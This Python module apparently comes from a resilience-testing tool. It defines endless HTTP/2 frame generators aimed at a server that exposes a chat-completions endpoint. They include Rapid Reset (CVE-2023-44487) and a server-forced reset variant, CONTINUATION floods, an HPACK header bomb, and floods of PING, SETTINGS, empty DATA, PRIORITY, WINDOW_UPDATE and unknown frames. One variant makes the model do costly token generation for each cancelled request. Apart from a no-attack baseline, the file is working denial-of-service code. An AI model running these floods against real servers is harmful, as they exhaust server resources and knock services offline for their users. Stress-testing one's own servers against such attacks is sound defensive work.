"""What attackers send over one HTTP/2 connection: frames without end, of no use to any client."""

from __future__ import annotations

import itertools
import struct
from collections.abc import Callable, Iterator

import hpack
import msgspec

from tools.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
    head_block,
)

CHAT = "/v1/chat/completions"


def nothing() -> Iterator[bytes]:
    """Only connects: what the others cost without an attack."""
    yield from ()


def rapid_reset() -> Iterator[bytes]:
    """Requests that are taken back at once (CVE-2023-44487)."""
    block = head_block("GET", "/v1/models")
    cancel = struct.pack(">I", 8)
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        yield frame(RST_STREAM, 0, stream, cancel)


def rapid_reset_of_work() -> Iterator[bytes]:
    """The same with requests that the model would have to work for."""
    block = head_block("POST", CHAT)
    body = chat_body(num_tokens=1000)
    cancel = struct.pack(">I", 8)
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)
        yield frame(DATA, END_STREAM, stream, body)
        yield frame(RST_STREAM, 0, stream, cancel)


def made_reset() -> Iterator[bytes]:
    """Requests that the server itself must reset (CVE-2025-8671): a window update of nothing."""
    block = head_block("GET", "/v1/models")
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        yield frame(WINDOW_UPDATE, 0, stream, bytes(4))


def many_streams() -> Iterator[bytes]:
    """Requests whose bodies never come, far more than are allowed at once."""
    block = head_block("POST", CHAT)
    for stream in itertools.count(1, 2):
        yield frame(HEADERS, END_HEADERS, stream, block)


def continuation_flood() -> Iterator[bytes]:
    """Headers that never end, in pieces."""
    yield frame(HEADERS, END_STREAM, 1, head_block("GET", "/v1/models"))
    piece = frame(CONTINUATION, 0, 1, b"\x10\x01a\x7f\x80\x7f" + b"b" * 16_000)
    yield from itertools.repeat(piece)


def small_continuation_flood() -> Iterator[bytes]:
    """The same in pieces of nothing."""
    yield frame(HEADERS, END_STREAM, 1, head_block("GET", "/v1/models"))
    yield from itertools.repeat(frame(CONTINUATION, 0, 1))


def hpack_bomb() -> Iterator[bytes]:
    """A large header is put into the table once, and named with one byte a thousand times."""
    large = bytes(hpack.Encoder().encode([("x-large", "v" * 3900)], huffman=False))
    start = head_block("GET", "/v1/models")
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, start + large)
    block = start + b"\xbe" * 16_000
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def ping_flood() -> Iterator[bytes]:
    """Each must be answered."""
    yield from itertools.repeat(frame(PING, 0, 0, bytes(8)))


def settings_flood() -> Iterator[bytes]:
    """Each must be acknowledged."""
    yield from itertools.repeat(frame(SETTINGS, 0, 0))


def empty_data_flood() -> Iterator[bytes]:
    """A body of pieces without a byte: no window holds them back."""
    yield frame(HEADERS, END_HEADERS, 1, head_block("POST", CHAT))
    yield from itertools.repeat(frame(DATA, 0, 1))


def priority_flood() -> Iterator[bytes]:
    """Frames that mean nothing any more."""
    yield from itertools.repeat(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)))


def window_flood() -> Iterator[bytes]:
    """Permission to send one byte more, again and again."""
    yield from itertools.repeat(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def unknown_flood() -> Iterator[bytes]:
    """Frames of a kind that nobody knows, which must be skipped."""
    yield from itertools.repeat(frame(0xBB, 0, 0))


def chat_body(num_tokens: int, **options: object) -> bytes:
    """A chat of exactly so many tokens."""
    messages = [{"role": "user", "content": "Hi"}]
    limits = {"max_tokens": num_tokens, "min_tokens": num_tokens}
    return msgspec.json.encode({"messages": messages, **limits, **options})


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    flood.__name__: flood
    for flood in (
        nothing,
        rapid_reset,
        rapid_reset_of_work,
        made_reset,
        many_streams,
        continuation_flood,
        small_continuation_flood,
        hpack_bomb,
        ping_flood,
        settings_flood,
        empty_data_flood,
        priority_flood,
        window_flood,
        unknown_flood,
    )
}
